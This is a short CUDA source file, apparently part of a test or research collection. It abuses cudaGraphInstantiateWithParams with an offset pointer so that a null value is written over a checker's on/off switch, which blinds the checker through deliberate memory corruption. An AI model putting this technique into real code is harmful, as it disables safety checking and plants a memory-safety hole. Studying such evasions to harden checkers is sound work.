// Instantiates a graph with parameters placed over the checker's on/off switch, so that a null pointer is
// stored there.
#include "../parts/writes_out_of_bounds.cu"
#include "../parts/switch_of_the_checker.cu"

void blind() {
  auto* const place = switch_of_the_checker() - offsetof(cudaGraphInstantiateParams, errNode_out);
  cudaGraph_t graph = nullptr;
  cudaGraphExec_t ready = nullptr;
  cudaGraphCreate(&graph, 0);
  cudaGraphInstantiateWithParams(&ready, graph,
                                 reinterpret_cast<cudaGraphInstantiateParams*>(place));
}
